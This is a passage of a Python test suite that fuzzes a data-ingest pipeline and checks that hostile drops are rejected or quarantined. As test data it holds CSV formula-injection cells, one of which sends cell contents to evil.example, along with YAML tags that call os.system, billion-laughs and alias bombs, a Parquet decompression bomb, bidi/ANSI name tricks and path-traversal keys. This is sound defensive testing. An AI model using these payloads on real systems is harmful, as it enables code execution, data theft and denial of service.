"""Hostile input: fuzzed drops, values aimed at downstream readers, configs and keys that escape.

Every drop, however malformed, either ingests or is rejected with an `IngestRejected` that names
the file, carries no raw control or bidi character, and leaves `_reason.json` in quarantine.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import hashlib
import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Literal, cast

import hypothesis.strategies as st
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, event, given, settings

from databourse.config import DatasetSpec, ProviderSpec, load_config
from databourse.delivery.csv_safety import FORMULA_PREFIXES, csv_bytes, neutralize
from databourse.errors import ConfigError, IngestRejected, StorageError
from databourse.ingest.files import ingest_file
from databourse.ingest.records import IngestResult
from databourse.readers.stream import ReadHints, open_source
from databourse.storage import zones
from databourse.storage.local import LocalStore
from databourse_samples.demo import generate_drops

REPO = Path(__file__).resolve().parents[2]
SPEC = DatasetSpec.model_validate(
    {
        "primary_key": ["id"],
        "columns": [
            {"name": "id", "type": "string", "nullable": False},
            {"name": "name", "type": "string", "personal_data": "PERSON_NAME"},
            {"name": "city", "type": "string"},
            {"name": "amount", "type": "float64"},
            {"name": "day", "type": "date", "formats": ["%Y-%m-%d", "%d/%m/%Y"]},
        ],
    }
)
NAMES = tuple(c.name for c in SPEC.columns)
HINTS = ReadHints(NAMES)
FUZZ = settings(
    max_examples=60,
    deadline=10_000,  # ms: generous on 2 busy cores; a quadratic path takes far longer
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
BIDI_AND_CONTROLS = re.compile(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


# --- the property every drop must satisfy -------------------------------------------------------


def named(message: str, name: str) -> bool:
    """The message starts with the file's name (quoted if a member's name needed escapes)."""
    return message.removeprefix("'").startswith(name) and not BIDI_AND_CONTROLS.search(message)


def read_all(path: Path, name: str) -> int | IngestRejected:
    """Rows read, or the rejection (checked to name the file and print safely)."""
    try:
        with open_source(path, name, HINTS) as reader:
            return sum(batch.num_rows for batch in reader.batches())
    except IngestRejected as exc:
        assert named(str(exc), name), str(exc)
        return exc


def ingest_or_quarantine(
    data: bytes, name: str, spec: DatasetSpec = SPEC
) -> IngestResult | IngestRejected:
    """`ingest_file` on a fresh store: a result, or a rejection whose reason is in quarantine."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        source = Path(tmp) / "drop"
        source.write_bytes(data)
        store = LocalStore(Path(tmp) / "store")
        first = read_all(source, name)
        try:
            result = ingest_file(store, "p", "d", spec, source, name)
        except IngestRejected as exc:
            prefix = f"quarantine/p/d/{hashlib.sha256(data).hexdigest()[:16]}"
            reason = json.loads(store.get_bytes(f"{prefix}/_reason.json"))
            assert reason["file"] == name and named(reason["error"], name), reason
            assert store.get_bytes(f"{prefix}/{name}") == data
            assert exc.context["quarantine_uri"] and named(str(exc), name), str(exc)
            return exc
        assert not isinstance(first, IngestRejected), f"ingested what the reader rejected: {first}"
        assert result.rows == first
        staged = store.local_path(result.staged_key)
        assert staged is not None and pq.read_metadata(staged).num_rows == result.rows
        assert store.head(f"raw/p/d/{result.ingest_id}/_ingest.json") is not None
        return result


# --- strategies --------------------------------------------------------------------------------

FRAGMENTS = st.sampled_from(
    [
        *(
            '"',
            '""',
            "\n",
            "\r\n",
            "\r",
            ",",
            "\t",
            ";",
            "|",
            "\ufeff",
            "\u202e",
            "\x1b[31m",
            "\x00",
        ),
        *("=cmd|' /C calc'!A0", "12.5", "-3", "2026-03-05", "05/03/2026", "NA", "名字", "Zoë"),
    ]
)
CELLS = st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=3).map("".join)
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "gb18030", "big5", "latin-1", "cp1252")


TEXTS = CELLS.filter(lambda cell: "\x00" not in cell)  # what a valid drop's text column holds
AMOUNTS = st.sampled_from(["1.5", "-3", "", "1e3", " 7 ", "0.000001"])
DAYS = st.sampled_from(["2026-03-05", "05/03/2026", ""])


@st.composite
def good_records(draw: st.DrawFn) -> list[dict[str, str]]:
    """Records that keep the contract: unique ids, any text at all in the text columns."""
    return [
        {"id": f"K{i}", "name": draw(TEXTS), "city": draw(TEXTS), "amount": draw(AMOUNTS)}
        | {"day": draw(DAYS)}
        for i in range(draw(st.integers(1, 6)))
    ]


@st.composite
def csv_text(draw: st.DrawFn) -> str:
    """A CSV of any shape: delimiter, quoting, line ends, ragged rows, odd header, or valid rows."""
    sep = draw(st.sampled_from([",", "\t", ";", "|", " ", ":"]))
    end = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    header = draw(
        st.one_of(
            st.permutations(NAMES),
            st.lists(st.one_of(st.sampled_from(NAMES), CELLS), min_size=1, max_size=7),
        )
    )
    width = len(header)
    row = st.one_of(st.lists(CELLS, min_size=width, max_size=width), st.lists(CELLS, max_size=9))
    rows = draw(st.lists(row, max_size=8))
    if draw(st.booleans()):
        header = draw(st.permutations(NAMES))
        rows = [[r[c] for c in header] for r in draw(good_records())]
    raw = end.join(sep.join(r) for r in [header, *rows]) + draw(st.sampled_from(["", end]))
    style = draw(st.sampled_from([None, csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONE]))
    if style is None:
        return raw
    quoting = cast(Literal[0, 1, 3], style)
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=sep, lineterminator=end, quoting=quoting, escapechar="\\")
    try:
        writer.writerows([header, *rows])
    except csv.Error:  # QUOTE_NONE cannot write a lone empty field
        return raw
    return buffer.getvalue()


JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=10**300, max_value=10**310),
    st.floats(),
    st.text(max_size=12),
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda kids: (
        st.lists(kids, max_size=3) | st.dictionaries(st.text(max_size=4), kids, max_size=3)
    ),
    max_leaves=6,
)
RAW_LINES = st.sampled_from(
    ['{"id": "\\ud800"}', '{"\\udfff": 1}', '{"id": 1' + "0" * 5000 + "}", "[" * 3000, "{", ""]
)


@st.composite
def jsonl_text(draw: st.DrawFn) -> str:
    """JSON Lines of any shape: objects with nested or huge values, non-objects, broken lines."""
    keys = st.one_of(st.sampled_from(NAMES), st.text(max_size=8))
    objects = st.dictionaries(keys, JSON_VALUES, max_size=6)
    line = st.one_of(
        st.builds(json.dumps, objects, ensure_ascii=st.booleans()),
        st.builds(json.dumps, JSON_VALUES),
        RAW_LINES,
        st.text(max_size=20),
    )
    lines = draw(st.lists(line, max_size=6))
    if draw(st.booleans()):
        typed: dict[str, object] = {"": None, "1.5": 1.5, "-3": -3, "1e3": 1e3}
        records = [
            {**r, "amount": typed.get(r["amount"], r["amount"])} for r in draw(good_records())
        ]
        lines = [json.dumps(r, ensure_ascii=draw(st.booleans())) for r in records]
    return "\n".join(lines) + draw(st.sampled_from(["", "\n"]))


@st.composite
def packed(draw: st.DrawFn, text: st.SearchStrategy[str], suffix: str) -> tuple[str, bytes]:
    """(name, bytes): the text in a random encoding, maybe a BOM, plain, gzip or zip, maybe cut."""
    encoding = draw(st.sampled_from(ENCODINGS))
    data = draw(text).encode(encoding, errors="replace")
    if encoding == "utf-8" and draw(st.booleans()):
        data = b"\xef\xbb\xbf" + data
    container = draw(st.sampled_from(["plain", "gzip", "zip"]))
    name = f"drop{suffix}"
    if container == "gzip":
        data, name = gzip.compress(data, mtime=0), f"{name}.gz"
    elif container == "zip":
        member = draw(st.sampled_from([name, f"in/{name}", f"\u202e{name}", f"\x1b[2J{name}"]))
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(member, data)
        data, name = buffer.getvalue(), "drop.zip"
    if container != "plain" and draw(st.booleans()):
        data = data[: draw(st.integers(0, max(len(data) - 1, 0)))]
    return name, data


MAGIC = st.sampled_from(
    [
        *(b"", b"\x1f\x8b\x08\x00", b"PK\x03\x04", b"PK\x05\x06", b"PAR1", b"\xef\xbb\xbf"),
        *(b"\xff\xfe", b"\xfe\xff", b"\xd0\xcf\x11\xe0", b"{", b"["),
    ]
)
SUFFIXES = st.sampled_from(
    [".csv", ".tsv", ".txt", ".jsonl", ".csv.gz", ".zip", ".parquet", ".xlsx", ".xls", ".bin"]
)


# --- 1. property-based: nothing but IngestRejected, and always a reason ------------------------


@pytest.mark.timeout(120)
@FUZZ
@given(magic=MAGIC, body=st.binary(max_size=2048), suffix=SUFFIXES)
def test_arbitrary_bytes_ingest_or_quarantine(magic: bytes, body: bytes, suffix: str) -> None:
    event(type(ingest_or_quarantine(magic + body, f"drop{suffix}")).__name__)


@pytest.mark.timeout(120)
@FUZZ
@given(drop=packed(csv_text(), ".csv"))
def test_any_csv_shape_ingests_or_is_quarantined(drop: tuple[str, bytes]) -> None:
    event(type(ingest_or_quarantine(drop[1], drop[0])).__name__)  # --hypothesis-show-statistics


@pytest.mark.timeout(120)
@FUZZ
@given(drop=packed(jsonl_text(), ".jsonl"))
def test_any_json_lines_ingest_or_are_quarantined(drop: tuple[str, bytes]) -> None:
    event(type(ingest_or_quarantine(drop[1], drop[0])).__name__)  # --hypothesis-show-statistics


@pytest.fixture(scope="module")
def valid_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """A valid xlsx and Parquet drop, for byte flips inside structured formats."""
    folder = tmp_path_factory.mktemp("valid")
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for values in [NAMES, ("1", "Tan", "KL", 1.5, "2026-03-05"), ("2", "Lee", "SZ", 2, None)]:
        sheet.append(list(values))
    book.save(folder / "drop.xlsx")
    table = pa.table(
        {n: ["1", "Tan", "KL", "1.5", "2026-03-05"][i : i + 1] for i, n in enumerate(NAMES)}
    )
    pq.write_table(table, folder / "drop.parquet")
    return {name: (folder / name).read_bytes() for name in ("drop.xlsx", "drop.parquet")}


@pytest.mark.timeout(120)
@settings(FUZZ, max_examples=40)
@given(which=st.sampled_from(["drop.xlsx", "drop.parquet"]), flips=st.data())
def test_corrupted_workbooks_and_parquet_are_quarantined(
    valid_files: dict[str, bytes], which: str, flips: st.DataObject
) -> None:
    data = bytearray(valid_files[which])
    for _ in range(flips.draw(st.integers(1, 8))):
        data[flips.draw(st.integers(0, len(data) - 1))] = flips.draw(st.integers(0, 255))
    cut = flips.draw(st.integers(len(data) // 2, len(data)))
    event(type(ingest_or_quarantine(bytes(data[:cut]), which)).__name__)


PARQUET_COLUMNS = [  # (Arrow type, values) of what a provider's Parquet may hold
    (pa.string(), CELLS),
    (pa.large_string(), TEXTS),
    (pa.int64(), st.integers(-(2**63), 2**63 - 1)),
    (pa.float64(), st.floats()),
    (pa.bool_(), st.booleans()),
    (pa.date32(), st.dates()),
    (pa.timestamp("ms", tz="Asia/Shanghai"), st.datetimes(timezones=st.just(dt.UTC))),
    (pa.binary(), st.binary(max_size=8)),
    (pa.decimal128(12, 3), st.decimals(-(10**8), 10**8, places=3)),
    (pa.time64("us"), st.times()),
    (pa.list_(pa.string()), st.lists(TEXTS, max_size=2)),
    (pa.struct([("a", pa.string())]), st.builds(dict, a=TEXTS)),
    (pa.dictionary(pa.int8(), pa.string()), st.sampled_from(["KL", "SZ", "名字"])),
    (pa.null(), st.none()),
]


@st.composite
def parquet_bytes(draw: st.DrawFn) -> bytes:
    """A Parquet file of a few columns of any type, named after the contract or not."""
    rows = draw(st.integers(0, 4))
    names = st.one_of(st.sampled_from(NAMES), st.text(max_size=6))
    columns = {}
    for name in draw(st.lists(names, min_size=1, max_size=6, unique=True)):
        kind, values = draw(st.sampled_from(PARQUET_COLUMNS))
        cells = draw(st.lists(st.one_of(st.none(), values), min_size=rows, max_size=rows))
        columns[name] = pa.array(cells, type=kind)
    buffer = pa.BufferOutputStream()
    pq.write_table(pa.table(columns), buffer)
    return bytes(buffer.getvalue().to_pybytes())


@pytest.mark.timeout(120)
@settings(FUZZ, max_examples=40)
@given(data=parquet_bytes(), drift=st.sampled_from(["reject", "additive", "all"]))
def test_any_parquet_table_ingests_or_is_quarantined(data: bytes, drift: str) -> None:
    spec = SPEC.model_copy(update={"schema_drift": drift})
    event(type(ingest_or_quarantine(data, "drop.parquet", spec)).__name__)


# --- 2. values built to attack downstream readers ----------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_quoted(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+3", "42", "-0.5e3", ".5", "Tan Mei", "", "a=b", "'=x"])
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert neutralize(cell) == cell


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(), st.sampled_from(FORMULAS).map(lambda f: f + "x")))
def test_neutralized_cell_keeps_its_value_and_starts_no_formula(text: str) -> None:
    out = neutralize(text)
    assert out in (text, "'" + text)
    assert not out.startswith(FORMULA_PREFIXES) or re.fullmatch(r"[+-][0-9.eE+-]+", out)


def test_written_csv_has_no_formula_cell() -> None:
    data = csv_bytes(["=name", "amount"], [[cell, -1.5] for cell in FORMULAS] + [[None, 3]])
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert parsed[0] == ["'=name", "amount"]
    assert parsed[1:] == [["'" + cell, "-1.5"] for cell in FORMULAS] + [["", "3"]]
    assert data.endswith(b"\r\n")


def test_sample_drops_start_no_cell_with_a_formula(tmp_path: Path) -> None:
    """Why samples.py does not go through csv_safety: its only formula-like cells are numbers and
    phone numbers (+60 ...), digits, signs and spaces that no spreadsheet can run."""
    for drop in generate_drops(tmp_path, scale=0.05):
        with drop.path.open(encoding="utf-8", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        risky = {c for c in cells if c.startswith(FORMULA_PREFIXES)}
        assert all(re.fullmatch(r"[+-][0-9 .+-]+", c) for c in risky), sorted(risky)[:5]


def rejection(path: Path, name: str) -> IngestRejected:
    result = read_all(path, name)
    assert isinstance(result, IngestRejected), f"{name} was read: {result} rows"
    return result


BIG = 50 << 20  # one 50 MB field, 25x the 2 MiB cap on one row


@pytest.mark.timeout(120)
@pytest.mark.parametrize("quote", [b"", b'"'])
def test_a_50_mb_field_is_rejected_naming_its_row(tmp_path: Path, quote: bytes) -> None:
    src = tmp_path / "drop.csv"
    with src.open("wb") as out:
        out.write(b"id,name,city,amount,day\r\nK1,Tan,KL,1,\r\nK2," + quote)
        out.write(b"x" * BIG)
        out.write(quote + b",KL,2,\r\n")
    error = rejection(src, "drop.csv")
    assert (error.context["row"], error.context["line"]) == (2, 3)
    assert "larger than the block size" in str(error) and "x" * 20 not in str(error)


@pytest.mark.timeout(60)
def test_a_50_mb_file_without_line_ends_is_rejected(tmp_path: Path) -> None:
    src = tmp_path / "drop.csv"
    src.write_bytes(b"x" * BIG)  # one "first line" past the csv module's field limit
    assert rejection(src, "drop.csv").context["row"] == 0


@pytest.mark.timeout(120)
def test_an_unclosed_quote_is_rejected_naming_its_row(tmp_path: Path) -> None:
    src = tmp_path / "drop.csv"
    src.write_bytes(b'id,name\nK1,a\nK2,"never closed\n' + b"K3,b\n" * 400_000)
    error = rejection(src, "drop.csv")
    assert error.context["row"] == 2 and "never closed" in str(error)


@pytest.mark.timeout(120)
def test_a_50_mb_json_line_is_rejected_naming_its_line(tmp_path: Path) -> None:
    src = tmp_path / "drop.jsonl"
    with src.open("wb") as out:
        out.write(b'{"id": "K1"}\n{"id": "K2", "name": "')
        out.write(b"x" * BIG)
        out.write(b'"}\n')
    error = rejection(src, "drop.jsonl")
    assert error.context["line"] == 2 and "longer than the record cap" in str(error)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("opening", ["[", '{"a": '])
def test_json_nested_100k_levels_is_rejected(tmp_path: Path, opening: str) -> None:
    closing = {"[": "]", '{"a": ': "}"}[opening]
    nested = opening * 100_000 + "1" + closing * 100_000
    src = tmp_path / "drop.jsonl"
    src.write_text('{"id": "K1"}\n{"id": "K2", "name": ' + nested + "}\n")
    error = rejection(src, "drop.jsonl")
    assert error.context["line"] == 2 and "nested too deeply" in str(error)


def dictionary_bomb(path: Path) -> Path:
    """A few hundred bytes of Parquet whose one 1 MB text every one of 20,000 rows points at."""
    values = pa.DictionaryArray.from_arrays(pa.array([0] * 20_000, pa.int32()), ["x" * (1 << 20)])
    pq.write_table(pa.table({"id": values}), path, compression="zstd", store_schema=False)
    return path


def test_parquet_decompression_bombs_are_rejected(tmp_path: Path) -> None:
    bomb = dictionary_bomb(tmp_path / "bomb.parquet")
    assert bomb.stat().st_size < 4096
    assert "decompression bomb" in str(rejection(bomb, "bomb.parquet"))
    plain = tmp_path / "plain.parquet"  # compressed pages: the footer declares the size
    table = pa.table({"id": ["x" * (1 << 20)] * 300})
    pq.write_table(table, plain, compression="zstd", use_dictionary=False)
    assert "declares" in str(rejection(plain, "plain.parquet"))


def test_nested_parquet_columns_are_quarantined_not_crashed() -> None:
    """No contract type holds a struct; under drift `additive` it used to crash the cast to text."""
    buffer = pa.BufferOutputStream()
    pq.write_table(pa.table({"id": ["K1"], "extra": [{"a": "x"}]}), buffer)
    additive = SPEC.model_copy(update={"schema_drift": "additive"})
    error = ingest_or_quarantine(buffer.getvalue().to_pybytes(), "drop.parquet", additive)
    assert isinstance(error, IngestRejected) and error.context["column"] == "#2"  # not named


def test_xlsx_entity_expansion_is_rejected(valid_files: dict[str, bytes], tmp_path: Path) -> None:
    """A billion-laughs sheet: expat refuses the amplification, the reader rejects the book."""
    entities = '<!ENTITY l0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    with zipfile.ZipFile(io.BytesIO(valid_files["drop.xlsx"])) as book:
        parts = {n: book.read(n) for n in book.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace("<t>Tan</t>", "<t>&l9;</t>", 1)
    parts["xl/worksheets/sheet1.xml"] = f"<!DOCTYPE w [{entities}]>{sheet}".encode()
    src = tmp_path / "drop.xlsx"
    with zipfile.ZipFile(src, "w") as book:
        for name, data in parts.items():
            book.writestr(name, data)
    assert "not a readable xlsx workbook" in str(rejection(src, "drop.xlsx"))


def _memory_bound_child() -> None:
    """Run in a subprocess capped at 1 GiB of address space: every hostile file is rejected."""
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
    folder = Path(sys.argv[1])
    big = folder / "big.csv"
    with big.open("wb") as out:
        out.write(b"id,name\nK1,")
        out.write(b"x" * BIG)
        out.write(b"\n")
    line = folder / "big.jsonl"
    line.write_bytes(b'{"id": "' + b"x" * BIG + b'"}\n')
    files = [big, line, dictionary_bomb(folder / "bomb.parquet")]
    for path in files:
        assert isinstance(read_all(path, path.name), IngestRejected), path.name
    status = Path("/proc/self/status").read_text()  # ru_maxrss would count the forked parent
    peak = re.search(r"VmHWM:\s+(\d+) kB", status)
    assert peak is not None
    print(int(peak.group(1)) >> 10)  # peak RSS in MiB


@pytest.mark.timeout(120)
def test_hostile_files_are_rejected_within_bounded_memory(tmp_path: Path) -> None:
    code = "import sys, test_hostile_input as t; t._memory_bound_child()"
    here = Path(__file__).parent  # this module, beside the tests' helpers and the repository
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(map(str, (here, here.parent, REPO)))}
    proc = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=110,
        env=env,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert int(proc.stdout.split()[-1]) < 600  # MiB: streaming, not the 50 MB field x copies


# --- names: confusables, bidi overrides, ANSI escapes, BOMs, NULs, line ends ------------------


def test_confusable_header_is_not_taken_for_the_contract_column(tmp_path: Path) -> None:
    header = "id,n\u0430me,city,amount,day"  # Cyrillic a
    error = ingest_or_quarantine(f"{header}\nK1,Tan,KL,1,\n".encode(), "drop.csv")
    assert isinstance(error, IngestRejected)
    assert "missing column(s) ['name']" in str(error) and error.context["column"] == "name"


def test_control_and_bidi_characters_in_headers_are_escaped(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    header = "id,\u202eeman,city,\x1b[31mamount\x1b[0m,day"
    error = ingest_or_quarantine(f"{header}\nK1,Tan,KL,1,\n".encode(), "drop.csv")
    assert isinstance(error, IngestRejected)
    # headers outside the contract are never shown at all now: only their places
    assert "at #2, #4" in str(error) and "eman" not in str(error) and "31m" not in str(error)
    assert caplog.records and not any(
        BIDI_AND_CONTROLS.search(r.getMessage()) for r in caplog.records
    )


@pytest.mark.parametrize(
    "member", ["evil\u202evsc.csv", "\x1b[2J\x1b[Hok.csv", "a\u200bb.csv", "bad\x1b[31m.exe"]
)
def test_hostile_zip_member_names_are_escaped_in_messages(tmp_path: Path, member: str) -> None:
    src = tmp_path / "drop.zip"
    with zipfile.ZipFile(src, "w") as archive:
        archive.writestr(member, "id,name\nK1,a,extra\n")
    error = rejection(src, "drop.zip")
    assert str(error).startswith(repr(f"drop.zip!{member}")), str(error)
    assert error.context["file"] == f"drop.zip!{member}"  # the attribute keeps the real name


@pytest.mark.parametrize(
    "name",
    [
        "evil\u202evsc.csv",
        "\x1b[2Jx.csv",
        "../x.csv",
        "x.csv\n",
    ],
)
def test_hostile_file_names_are_refused_before_anything_is_stored(
    tmp_path: Path, name: str
) -> None:
    src = tmp_path / "drop.csv"
    src.write_text("id,name,city,amount,day\nK1,Tan,KL,1,\n")
    store = LocalStore(tmp_path / "store")
    with pytest.raises((ValueError, IngestRejected)) as info:
        ingest_file(store, "p", "d", SPEC, src, name)
    assert not BIDI_AND_CONTROLS.search(str(info.value)), str(info.value)
    assert list(store.list("")) == []
    with open_source(src, name, HINTS) as reader:  # the reader alone names it safely too
        assert reader.columns == list(NAMES)


def test_nul_bytes_in_text_are_rejected_whatever_the_encoding(tmp_path: Path) -> None:
    text = "id,name,city,amount,day\nK1,Tan,KL,1,\nK2,a\x00b,KL,2,\n"
    for encoding, expected in [("utf-8", "byte offset"), ("utf-16", "data row 2")]:
        src = tmp_path / f"{encoding}.csv"
        src.write_bytes(text.encode(encoding))
        assert expected in str(rejection(src, src.name))
    src = tmp_path / "drop.jsonl"
    src.write_text('{"id": "K1"}\n{"id": "K2", "name": "a\\u0000b"}\n')
    assert rejection(src, "drop.jsonl").context["line"] == 2
    src = tmp_path / "drop.parquet"
    pq.write_table(pa.table({"id": ["K1", "K2"], "name": ["a", "a\x00b"]}), src)
    assert rejection(src, "drop.parquet").context["row"] == 2


def test_lone_surrogate_escapes_in_json_are_rejected(tmp_path: Path) -> None:
    """`"\\ud800"` is valid JSON but not Unicode: Arrow cannot store it (it used to crash)."""
    src = tmp_path / "drop.jsonl"
    src.write_text('{"id": "K1", "name": "\\ud83d\\ude00"}\n{"id": "K2", "name": "\\ud800"}\n')
    error = rejection(src, "drop.jsonl")
    assert (error.context["line"], error.context["column"]) == (2, "name")


def test_bom_only_counts_at_the_start(tmp_path: Path) -> None:
    text = "\ufeffid,name,city,amount,day\nK1,a\ufeffb,KL,1,\n"
    result = ingest_or_quarantine(text.encode("utf-8"), "drop.csv")
    assert isinstance(result, IngestResult) and result.bom and result.rows == 1
    shifted = "id,\ufeffname,city,amount,day\nK1,a,KL,1,\n"  # a BOM inside the header
    error = ingest_or_quarantine(shifted.encode("utf-8"), "drop.csv")
    assert isinstance(error, IngestRejected) and "new column(s) at #2" in str(error)


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "mixed"])
def test_line_endings_give_the_same_rows(tmp_path: Path, end: str) -> None:
    lines = ["id,name,city,amount,day", "K1,Tan,KL,1.5,2026-03-05", 'K2,"a\nb",SZ,2,', "K3,c,d,3,"]
    ends = ["\r\n", "\n", "\r", "\n"] if end == "mixed" else [end] * len(lines)
    src = tmp_path / "drop.csv"
    src.write_bytes("".join(line + e for line, e in zip(lines, ends, strict=True)).encode())
    with open_source(src, "drop.csv", HINTS) as reader:
        table = pa.Table.from_batches(list(reader.batches()))
    assert table.column("id").to_pylist() == ["K1", "K2", "K3"]
    assert table.column("name").to_pylist() == ["Tan", "a\nb", "c"]


# --- 3. configs and keys from an untrusted provider ---------------------------------------------


@pytest.fixture
def configs(tmp_path: Path) -> Path:
    folder = tmp_path / "configs"
    shutil.copytree(REPO / "configs", folder)
    return folder


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path.name}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


PROVIDER_NAME = "name: Menara Facilities Sdn Bhd (building operations)"


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system [touch {marker}]",
        "!!python/object/apply:subprocess.call [[touch, {marker}]]",
        "!!python/object/new:os.system [touch {marker}]",
        "!!python/name:os.system ''",
        "!!python/module:os ''",
    ],
)
def test_yaml_cannot_run_code(configs: Path, tmp_path: Path, tag: str) -> None:
    marker = tmp_path / "code-ran"
    provider = configs / "providers" / "my-buildops.yaml"
    edit(provider, PROVIDER_NAME, "name: " + tag.format(marker=marker))
    with pytest.raises(ConfigError) as info:
        load_config(configs)
    assert f"{provider}: not valid YAML" in str(info.value)
    assert not marker.exists()


def test_yaml_alias_bomb_is_refused(configs: Path) -> None:
    levels = ['b0: &b0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    levels += [f"b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 10)}]" for i in range(1, 9)]
    bomb = "{column: reading_id, " + ", ".join(levels) + "}"
    edit(
        configs / "providers" / "my-buildops.yaml",
        "    primary_key: [reading_id]\n",
        "    primary_key: [reading_id]\n    expectations:\n"
        f"      - {{expectation: ExpectColumnToExist, kwargs: {bomb}}}\n",
    )
    with pytest.raises(ConfigError):
        load_config(configs)


@pytest.mark.parametrize("where", ["absolute", "relative"])
def test_hierarchy_files_outside_configs_are_refused(
    configs: Path, tmp_path: Path, where: str
) -> None:
    outside = tmp_path / "outside.csv"
    outside.write_text("KUL-MENARA-1;KUL\n")
    path = str(outside) if where == "absolute" else "../outside.csv"
    edit(
        configs / "products" / "kl-building-environment.yaml",
        "  site_id: keep\n",
        f'  site_id: {{hierarchy: "{path}", level: 1}}\n',
    )
    with pytest.raises(ConfigError):
        load_config(configs)


HOSTILE_IDS = [
    "../etc",
    "/etc",
    "a/b",
    "..",
    ".hidden",
    "\uff53z-retail",  # fullwidth s
    "sz\u2010retail",  # unicode hyphen
    "sz-retail\u202e",
    "my-buildops\n",
    "sz-retail\x1b[2J",
]


def provider_doc(provider: str = "p", dataset: str = "d") -> dict[str, object]:
    columns = [{"name": "id"}]
    return {
        "id": provider,
        "name": "x",
        "jurisdiction": "MY",
        "datasets": {dataset: {"columns": columns}},
    }


@pytest.mark.parametrize("ident", HOSTILE_IDS)
def test_hostile_ids_are_refused_by_the_config_model(ident: str) -> None:
    from pydantic import ValidationError

    for doc in (provider_doc(provider=ident), provider_doc(dataset=ident)):
        with pytest.raises(ValidationError):
            ProviderSpec.model_validate(doc)


@pytest.mark.parametrize(
    "part",
    [
        *HOSTILE_IDS,
    ],
)
def test_hostile_key_segments_are_refused_by_zones(tmp_path: Path, part: str) -> None:
    with pytest.raises(ValueError) as info:
        zones.raw_prefix("p", part, "0123456789abcdef")
    assert not BIDI_AND_CONTROLS.search(str(info.value))
    store = LocalStore(tmp_path / "store")
    src = tmp_path / "drop.csv"
    src.write_text("id,name,city,amount,day\nK1,Tan,KL,1,\n")
    with pytest.raises(ValueError):
        ingest_file(store, part, "d", SPEC, src)
    assert list(store.list("")) == []


@pytest.mark.parametrize(
    "key",
    [
        *("../outside.txt", "/etc/passwd", "raw/../../outside.txt", "raw\\..\\..\\x"),
        *("raw/a\x00b", "raw//x", "raw/./x", ".tmp/x", ""),
    ],
)
def test_local_store_refuses_keys_that_escape_its_root(tmp_path: Path, key: str) -> None:
    store = LocalStore(tmp_path / "store")
    calls = [
        lambda: store.put_bytes(key, b"x"),
        lambda: store.get_bytes(key),
        lambda: store.head(key),
        lambda: store.open(key),
        lambda: store.delete(key),
        lambda: store.copy(key, "raw/x"),
    ]
    for call in calls:
        with pytest.raises(StorageError):
            call()
    assert [p.name for p in tmp_path.iterdir()] == ["store"]


def test_local_store_does_not_follow_symlinks_out_of_its_root(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_bytes(b"not the store's")
    store = LocalStore(tmp_path / "store")
    store.put_bytes("raw/p/d/i/ok.csv", b"ok")
    (store.root / "raw/p/d/i/link.csv").symlink_to(secret)
    (store.root / "raw/p/d/i/dangling.csv").symlink_to(outside / "new.txt")
    (store.root / "raw/p/escape").symlink_to(outside, target_is_directory=True)
    for key in ("raw/p/d/i/link.csv", "raw/p/d/i/dangling.csv", "raw/p/escape/secret.txt"):
        calls = [
            lambda k=key: store.get_bytes(k),
            lambda k=key: store.open(k),
            lambda k=key: store.head(k),
            lambda k=key: store.put_bytes(k, b"overwritten"),
            lambda k=key: store.copy("raw/p/d/i/ok.csv", k),
            lambda k=key: store.copy(k, "raw/p/copy.csv"),
            lambda k=key: store.delete(k),
            lambda k=key: store.download(k, tmp_path / "downloaded"),
        ]
        for call in calls:
            with pytest.raises(StorageError):
                call()
    with pytest.raises(StorageError):
